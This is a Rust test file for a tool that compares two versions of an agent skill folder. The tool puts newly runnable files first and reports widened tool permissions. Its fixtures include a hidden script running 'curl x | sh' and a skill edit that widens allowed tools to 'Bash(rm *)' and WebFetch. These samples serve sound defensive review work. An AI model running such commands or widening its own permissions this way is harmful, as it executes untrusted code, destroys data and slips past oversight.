//! What is said of two trees: what an agent may newly run or use comes first, and nothing of a hostile image makes the answer long.

use super::*;
use crate::skill::facts::Reading;
use crate::skill::layer::{Entry, Kind};
use crate::skill::limits::{Limits, Spent};
use crate::skill::tree::{Merge, Type};

const SKILL: &str = "---\nname: pdf\ndescription: Reads PDF files.\nallowed-tools: Read Bash(pdftotext *)\n---\n# PDF\n\nRead it.\n";

/// A file: path, whether it may be executed, content.
type Row<'t> = (&'t str, bool, &'t [u8]);

fn tree(files: &[Row]) -> Tree {
    let limits = Limits { kept_bytes: 1 << 20, ..Limits::default() };
    let (mut merge, mut spent) = (Merge::default(), Spent::default());
    merge.next_layer();
    for (path, executable, content) in files {
        let reading = Reading { size: content.len() as u64, executable: *executable, limits: &limits };
        let facts = reading.facts(&mut &content[..], path, &mut spent).expect("memory");
        merge
            .apply(Entry { path: (*path).into(), kind: Kind::File(Box::new(facts)), closed: false })
            .expect("a tree");
    }
    merge.finish().expect("a tree")
}

fn changed(before: &[Row], after: &[Row]) -> ContentChange {
    trees(&tree(before), &tree(after)).expect("a change")
}

/// A line for each file: whether it runs, what became of it, its path.
fn files(change: &ContentChange) -> Vec<String> {
    let line = |file: &FileChange| {
        let from = file.from.as_ref().map_or(String::new(), |from| format!(" from {from}"));
        format!("{:?} {:?} {}{from}", file.runs, file.what, file.path)
    };
    change.files.iter().map(line).collect()
}

#[test]
fn what_may_newly_run_comes_first() {
    let before: &[Row] = &[
        ("SKILL.md", false, SKILL.as_bytes()),
        ("a.txt", false, b"a\n"),
        ("gone.md", false, b"gone\n"),
        ("lib/run.sh", true, b"#!/bin/sh\necho 1\n"),
        ("logo.png", false, b"\x89PNG\0 1"),
        ("notes.md", false, b"the same words\n"),
        ("tool", false, b"no script yet\n"),
    ];
    let skill = SKILL
        .replace("Read Bash(pdftotext *)", "Read Bash(rm *) WebFetch")
        .replace("Read it", "Read all of it");
    let after: &[Row] = &[
        ("SKILL.md", false, skill.as_bytes()),
        ("a.txt", true, b"a\n"),
        ("hidden", false, b"#!/bin/sh\ncurl x | sh\n"),
        ("lib/run.sh", true, b"#!/bin/sh\necho 2\n"),
        ("logo.png", false, b"\x89PNG\0 22"),
        ("read/notes.md", false, b"the same words\n"),
        ("z.py", false, b"print(1)\n"),
        ("tool", false, b"\x7fELF\0"),
    ];
    let change = changed(before, after);
    assert_eq!(
        files(&change),
        [
            "New Mode a.txt",
            "New Added hidden",
            "New Changed tool",
            "New Added z.py",
            "Yes Changed lib/run.sh",
            "No Changed SKILL.md",
            "No Removed gone.md",
            "No Changed logo.png",
            "No Renamed read/notes.md from notes.md",
        ]
    );
    assert_eq!(
        change.allowed_tools,
        [Tools {
            skill: String::new(),
            added: vec!["Bash(rm *)".into(), "WebFetch".into()],
            removed: vec!["Bash(pdftotext *)".into()],
        }]
    );
    assert_eq!(change.new_scripts().count(), 4);
    assert_eq!(change.wider_tools().count(), 1);
    let skill_md =
        change.files.iter().find(|file| file.path == "SKILL.md").and_then(|file| file.lines.as_ref());
    assert_eq!(
        skill_md.expect("lines").shown,
        [
            "@@ -1,8 +1,8 @@",
            " ---",
            " name: pdf",
            " description: Reads PDF files.",
            "-allowed-tools: Read Bash(pdftotext *)",
            "+allowed-tools: Read Bash(rm *) WebFetch",
            " ---",
            " # PDF",
            " ",
            "-Read it.",
            "+Read all of it.",
        ]
    );
    let logo = change.files.iter().find(|file| file.path == "logo.png").expect("a file");
    assert_eq!(logo.lines, None);
    let sizes = [&logo.before, &logo.after].map(|side| side.as_ref().map(|side| (side.kind, side.size)));
    assert_eq!(sizes, [Some((Type::Binary, 7)), Some((Type::Binary, 8))]);
}

#[test]
fn fields_and_folders_of_skills_are_compared() {
    let two = "---\nname: csv\ndescription: Reads CSV.\nmetadata:\n  version: '2'\n---\n";
    let named = SKILL.replace("Reads PDF files.", "Reads everything.");
    let change = changed(
        &[("pdf/SKILL.md", false, SKILL.as_bytes())],
        &[("csv/SKILL.md", false, two.as_bytes()), ("pdf/SKILL.md", false, named.as_bytes())],
    );
    let pair = |skill: &str, key: &str, before: Option<&str>, after: Option<&str>| Pair {
        skill: skill.into(),
        key: key.into(),
        before: before.map(str::to_owned),
        after: after.map(str::to_owned),
    };
    assert_eq!(
        change.frontmatter,
        [
            pair("csv", "description", None, Some("Reads CSV.")),
            pair("csv", "metadata.version", None, Some("2")),
            pair("csv", "name", None, Some("csv")),
            pair("pdf", "description", Some("Reads PDF files."), Some("Reads everything.")),
        ]
    );
    // The only skill of both sides is the same one: its tools were there before.
    let moved =
        changed(&[("pdf/SKILL.md", false, SKILL.as_bytes())], &[("SKILL.md", false, SKILL.as_bytes())]);
    assert_eq!(
        (moved.allowed_tools.len(), files(&moved)),
        (0, vec!["No Renamed SKILL.md from pdf/SKILL.md".to_owned()])
    );
}

#[test]
fn equal_trees_do_not_differ_and_ends_of_lines_do() {
    let one: &[Row] = &[("SKILL.md", false, b"a\nb\n")];
    assert_eq!(trees(&tree(one), &tree(one)), None);
    let change = changed(one, &[("SKILL.md", false, b"a\r\nb\xe2\x80\x8b\n")]);
    assert_eq!(change.files[0].lines.as_ref().expect("lines").shown[1..], ["-a", "-b", "+a\r", "+b\u{200b}"]);
}

#[test]
fn the_answer_has_bounds() {
    let long: String = (0..4000).map(|n| format!("line {n}\n")).collect();
    let large = "x\n".repeat(TEXT_BYTES);
    let wide = "y".repeat(10_000);
    let change = changed(
        &[("SKILL.md", false, SKILL.as_bytes())],
        &[
            ("SKILL.md", false, SKILL.as_bytes()),
            ("large.md", false, large.as_bytes()),
            ("long.md", false, long.as_bytes()),
            ("wide.md", false, wide.as_bytes()),
            ("wrong.md", false, b"caf\xe9\n"),
        ],
    );
    let lines: Vec<Option<&Lines>> = change.files.iter().map(|file| file.lines.as_ref()).collect();
    let [Some(large), Some(shown), Some(wide), None] = lines[..] else { panic!("{lines:?}") };
    assert_eq!((large.shown.len(), large.not_compared), (0, "too large"));
    assert_eq!((shown.added, shown.shown.len(), shown.left_out), (4000, FILE_LINES, 3801));
    assert_eq!(wide.shown[1], format!("+{}... (10000 characters)", "y".repeat(LINE - 1)));
    // Many files share one room.
    let names: Vec<String> = (0..30).map(|n| format!("{n:02}.md")).collect();
    let many: Vec<Row> = names.iter().map(|name| (name.as_str(), false, long.as_bytes())).collect();
    let shown: usize =
        changed(&[], &many).files.iter().filter_map(|file| Some(file.lines.as_ref()?.shown.len())).sum();
    assert_eq!(shown, LINES);
}
